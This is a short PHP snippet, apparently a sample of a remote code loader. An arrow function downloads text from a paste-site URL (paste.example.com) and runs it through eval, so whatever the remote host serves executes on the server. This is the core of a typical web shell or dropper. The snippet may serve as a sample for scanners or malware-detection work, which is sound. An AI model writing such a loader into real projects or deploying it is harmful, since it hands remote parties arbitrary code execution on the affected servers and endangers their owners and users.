<?php
// Remote source fetched through an arrow function and evaluated.
$get = fn($u) => file_get_contents($u);
eval('?>' . $get('https://paste.example.com/raw/zz'));
